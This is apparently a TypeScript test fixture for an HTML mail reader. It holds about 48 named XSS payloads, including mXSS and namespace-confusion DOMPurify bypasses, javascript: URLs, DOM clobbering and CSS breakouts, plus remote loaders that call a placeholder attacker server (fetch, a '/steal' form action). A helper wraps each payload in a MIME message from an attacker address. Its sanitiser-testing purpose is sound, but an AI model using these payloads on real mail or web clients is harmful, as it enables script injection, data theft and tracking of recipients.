// Hostile HTML mail for the reader: each payload tries to run script (marker: window.__pwned, alert(),
// console "PWNED"), reach a remote server (REMOTE placeholder → the test's attacker server), or escape the
// sandboxed frame. Some are the classic DOMPurify bypass shapes (mXSS, namespace confusion).
const R = '{{REMOTE}}';
const S = `top.__pwned=1;parent.__pwned=1;window.__pwned=1;console.log('PWNED');fetch('${R}/x')`;

export const XSS_PAYLOADS: Array<[string, string]> = [
  ['script-tag', `<script>${S}</script>`],
  ['img-onerror', `<img src=x onerror="${S}">`],
  ['svg-onload', `<svg onload="${S}"></svg>`],
  ['svg-script', `<svg><script>${S}</script></svg>`],
  ['body-onload', `<body onload="${S}">`],
  ['javascript-href', `<a id="j" href="javascript:${S}">clic</a>`],
  ['javascript-entity-href', `<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>`],
  ['data-html-iframe', `<iframe src="data:text/html,<script>${S}</script>"></iframe>`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>${S}</script>"></iframe>`],
  ['object-embed', `<object data="${R}/o.swf"></object><embed src="${R}/e.swf">`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${R}/refresh">`],
  ['base-href', `<base href="${R}/"><img src="relative.png"><a href="rel">r</a>`],
  ['form-action', `<form action="${R}/steal"><input name=p value=x><button>ok</button></form>`],
  ['style-import', `<style>@import url(${R}/i.css); body{background:url(${R}/bg.png)}</style>`],
  ['inline-style-url', `<div style="background-image:url(${R}/s.png);width:10px;height:10px">x</div>`],
  ['link-stylesheet', `<link rel="stylesheet" href="${R}/l.css"><link rel="prefetch" href="${R}/p"><link rel="dns-prefetch" href="${R}">`],
  ['img-srcset', `<img srcset="${R}/a.png 1x, ${R}/b.png 2x"><picture><source srcset="${R}/c.png"></picture>`],
  ['video-poster', `<video poster="${R}/poster.png"><source src="${R}/v.mp4"></video><audio src="${R}/a.mp3"></audio>`],
  ['table-background', `<table background="${R}/t.png"><tr><td background="${R}/td.png">x</td></tr></table>`],
  ['input-image', `<input type="image" src="${R}/in.png">`],
  ['mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${S.replace(/'/g, '')}>">`],
  ['mxss-svg-style', `<svg></p><style><a id="</style><img src=1 onerror=${S.replace(/'/g, '')}>">`],
  ['mxss-math-mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`],
  ['mxss-form-nesting', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ['template-escape', `<template><script>${S}</script></template><template><img src=x onerror=alert(1)></template>`],
  ['svg-use-href', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x"></use></svg>`],
  ['svg-animate', `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">clic</text></a></svg>`],
  ['svg-foreignobject', `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><img src=x onerror=alert(1)></foreignObject></svg>`],
  ['xlink-href', `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><image xlink:href="${R}/xl.png"/></svg>`],
  ['css-expression', `<div style="width:expression(alert(1));behavior:url(${R}/b.htc)">x</div>`],
  ['srcdoc-entity', `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`],
  ['details-ontoggle', `<details open ontoggle="${S}"><summary>x</summary></details>`],
  ['autofocus-onfocus', `<input autofocus onfocus="${S}"><select autofocus onfocus="${S}"></select>`],
  ['marquee-onstart', `<marquee onstart="${S}">x</marquee>`],
  ['dom-clobbering', `<img name="mss"><form id="mss"><input name="invoke"></form><a id="__pwned" href="x">`],
  ['window-opener', `<a href="${R}/open" target="_blank">lien</a><area href="javascript:alert(1)">`],
  ['cid-trick', `<img src="cid:../../../../etc/passwd"><img src="cid:x' onerror='alert(1)">`],
  ['unicode-js', `<a href="\u006A\u0061vascript:alert(1)">u</a><img src="jav\u0000ascript:alert(1)">`],
  ['comment-break', `<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->`],
  ['huge-attribute-mutation', `<a title="${'x'.repeat(50_000)}" href="https://ok.example">ok</a><img src=x onerror=alert(1)>`],
  ['ping-attribute', `<a href="https://ok.example" ping="${R}/ping">ping</a>`],
  ['portal-and-frameset', `<portal src="${R}/portal"></portal><frameset><frame src="${R}/frame"></frameset>`],
  // CSS is kept (made safe) since message frames have their own CSP: it must neither fetch nor break out.
  ['css-remote-url', `<p style="background:url(${R}/css-bg.png)">a</p><div style="background-image:url(&quot;${R}/css-q.png&quot;)">b</div>`],
  ['css-import-and-font', `<style>@import url(${R}/i.css);@font-face{font-family:x;src:url(${R}/f.woff)}p{font-family:x}</style><p>c</p>`],
  ['css-escapes-and-image-set', `<p style="background:\\75rl(${R}/esc.png);list-style:image-set('${R}/set.png' 1x)">d</p>`],
  ['css-style-breakout', `<style>p{color:red}</style><script>${S}</script><style>a{}</style ><img src=x onerror="${S}"></style>`],
  ['css-head-style-breakout', `<style>p{color:red}&lt;/style&gt;&lt;script&gt;${S}&lt;/script&gt;</style><p>e</p>`],
];

/** A MIME message carrying one payload as its HTML part (plus a text alternative). */
export function xssMessage(name: string, payload: string, remote: string, i: number): Buffer {
  const html = `<html><head><title>t</title></head><body><h1 id="title">Message ${name}</h1>${payload.split(R).join(remote)}<p>fin</p></body></html>`;
  const b = `xss${i}`;
  return Buffer.from(
    `From: Attaquant <attaquant@evil.example>\r\nTo: alice.martin@test.mssante.fr\r\nSubject: XSS ${String(i).padStart(2, '0')} ${name}\r\n` +
      `Message-ID: <xss${i}@evil.example>\r\nDate: ${new Date(Date.UTC(2026, 0, 1, 8, i)).toUTCString()}\r\nMIME-Version: 1.0\r\n` +
      `Content-Type: multipart/alternative; boundary="${b}"\r\n\r\n--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVersion texte ${name}\r\n` +
      `--${b}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n--${b}--\r\n`,
  );
}
